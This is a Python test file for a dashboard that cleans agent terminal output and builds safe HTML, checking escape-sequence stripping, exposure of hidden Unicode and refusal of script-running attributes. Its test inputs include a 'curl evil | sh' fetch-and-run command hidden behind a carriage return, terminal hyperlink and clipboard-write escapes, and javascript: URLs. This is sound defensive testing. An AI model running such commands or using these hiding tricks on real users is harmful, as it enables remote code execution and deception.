from __future__ import annotations

import html.parser
import re

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hive_dashboard.html import Element, Kept, Verbatim, h, render, tree
from hive_dashboard.pages import shelf as shelves
from hive_dashboard.pages.shelf import Shelf
from hive_dashboard.text import clip, coloured, hidden_in, one_line, quoted, reveal, runs, terminal

CORPUS = [
    ("\x1b[31mred\x1b[0m", "red"),
    ("\x1b]8;;http://evil\x07link\x1b]8;;\x07", "link"),
    ("\x1b]52;c;cHduZWQ=\x07x", "x"),
    ("\x1b]0;title\x1b\\x", "x"),
    ("\x9b31mred", "red"),
    ("\x1bPdevice\x1b\\x", "x"),
    ("\x1b(Bx", "x"),
    ("progress 1%\rprogress 99%", "progress 99%"),
    ("a\r\nb", "a\nb"),
    ("passwort\b\b\b\b\b\b\b\bok", "ok"),
    ("ls\x07", "ls⟨U+0007⟩"),
    ("a\u202eb", "a⟨U+202E⟩b"),
    ("a\u200bb", "a⟨U+200B⟩b"),
    ("\u2066x\u2069", "⟨U+2066⟩x⟨U+2069⟩"),
    ("\U000e0041", "⟨U+E0041⟩"),
    ("\ufeffx", "⟨U+FEFF⟩x"),
    ("a\u0301 naïve 日本 🙂", "a\u0301 naïve 日本 🙂"),
    ("tab\tand\nline", "tab\tand\nline"),
    ("Z" + "\u0335" * 50, "Z" + "\u0335" * 4 + "⟨…⟩"),
]


@pytest.mark.parametrize(("raw", "shown"), CORPUS)
def test_what_a_terminal_would_hide_is_gone_or_shown(raw: str, shown: str) -> None:
    assert terminal(raw) == shown


@given(st.text())
def test_nothing_hidden_is_left(text: str) -> None:
    for shown in (reveal(text), terminal(text)):
        assert not hidden_in(shown)
        assert "\x1b" not in shown
        assert reveal(shown) == shown


@given(st.text(), st.integers(1, 50))
def test_cuts_keep_the_limit(text: str, limit: int) -> None:
    assert len(clip(text, limit)) <= limit
    assert "\n" not in one_line(text, limit)


class _Reader(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


PRINTABLE = st.text(st.characters(exclude_categories=("C", "Zl", "Zp", "M")))


@given(PRINTABLE, PRINTABLE)
def test_text_is_never_markup(text: str, attribute: str) -> None:
    reader = _Reader()
    reader.feed(render(h("p.x", text, title=attribute)))
    assert [tag for tag, _ in reader.tags] == ["p"]
    assert reader.text == reveal(text)
    assert (reader.tags[0][1].get("title") or "") == attribute


@pytest.mark.parametrize(
    "attrs",
    [
        {"onclick": "x"},
        {"style": "x"},
        {"srcdoc": "x"},
        {"href": "javascript:x"},
        {"href": " javascript:x"},
        {"href": "JaVaScRiPt:x"},
        {"href": "data:text/html,x"},
        {"href": "//evil.example"},
        {"action": "javascript:x"},
        {"x y": "z"},
        {"a=b": "z"},
    ],
)
def test_what_could_run_is_refused(attrs: dict[str, str]) -> None:
    with pytest.raises(ValueError, match=r"."):
        h("a", **attrs)


def test_the_tree_is_the_page() -> None:
    node = h("p.a.b", "x<y", h("i", 5), None, ["z"], hidden=True, data_n=3)
    assert tree(node) == [
        "p",
        {"class": "a b", "hidden": "", "data-n": "3"},
        "x<y",
        ["i", {}, "5"],
        "z",
    ]
    assert render(node) == '<p class="a b" hidden data-n="3">x&lt;y<i>5</i>z</p>'


def test_what_the_reader_typed_stays_as_it_is() -> None:
    typed = h("textarea", Verbatim("\n👩‍💻 <b>"))
    assert render(typed) == "<textarea>\n\n👩‍💻 &lt;b&gt;</textarea>"
    kept = h("div", h("b", "x"), data_keep=True)
    assert isinstance(kept, Element)
    assert tree(kept) == ["div", {"data-keep": ""}]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("plain", [("", "plain")]),
        ("\x1b[31mred\x1b[0m no", [("a1", "red"), ("", " no")]),
        ("\x1b[1;92mbold", [("a2 ab", "bold")]),
        ("\x1b[38;5;12mblue\x1b[39m.", [("a4", "blue"), ("", ".")]),
        ("\x1b[38;2;1;2;31mtrue\x1b[m", [("", "true")]),
        ("\x9b33mC1", [("a3", "C1")]),
        ("\x1b[31mlost\rkept", [("", "kept")]),
        ("\x1b[2J\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", [("", "link")]),
        ("\uf102 forged", [("", "⟨U+F102⟩ forged")]),
    ],
)
def test_colours_are_kept_and_nothing_else(text: str, found: list[tuple[str, str]]) -> None:
    assert [run for run in runs(coloured(text + "\x1b[0m")) if run[1]] == found


@given(st.text())
def test_colours_change_no_text(text: str) -> None:
    shown = "".join(part for _, part in runs(coloured(text)))
    assert "\x1b" not in shown
    assert "\x9b" not in shown
    if "\x1b" not in text and "\x9b" not in text:
        assert unmarked(shown) == unmarked(terminal(text))


def unmarked(text: str) -> str:
    """Without the private characters that we use, and how they are named."""
    return re.sub(r"[\uf100-\uf111]|⟨U\+F1[01][0-9A-F]⟩", "", text)


def test_what_is_kept_is_written_as_the_element_itself() -> None:
    part = h("p.x", "a\u202eb", h("b", "<c>"), title="t")
    assert render(h("div", Kept(part), "z")) == render(h("div", part, "z"))
    assert orjson.dumps(tree(h("div", Kept(part), "z"))) == orjson.dumps(tree(h("div", part, "z")))


def test_a_part_is_drawn_anew_when_what_it_is_made_of_changes() -> None:
    shelf, drawn = Shelf(), []

    def draw() -> Element:
        drawn.append(1)
        return h("p", str(len(drawn)))

    first = shelf.get("a", (1, "x"), draw)
    assert shelf.get("a", (1, "x"), draw) is first
    assert shelf.get("a", (2, "x"), draw).html == "<p>2</p>"
    for i in range(shelves.MOST):
        shelf.get(i, (), draw)
    assert shelf.get("a", (2, "x"), draw).html != "<p>2</p>", "only so many are kept"


@pytest.mark.parametrize("text", ["\x9d" * 60_000 + "\x1bX", "a" * 60_000 + "\b" * 60_000])
def test_a_row_full_of_escapes_is_read_once(text: str) -> None:
    """Each row of an agent is drawn on the event loop: one may not take minutes."""
    assert len(terminal(text)) < 3


def test_what_no_terminal_wrote_is_shown_whole() -> None:
    text = "curl evil | sh #\rls \x9d; x\x9c\x1b]0;y\x07z\b\uf101"
    shown = quoted(text)
    for part in ("curl evil | sh #⟨U+000D⟩ls", "; x", "y", "z⟨U+0008⟩⟨U+F101⟩"):
        assert part in shown
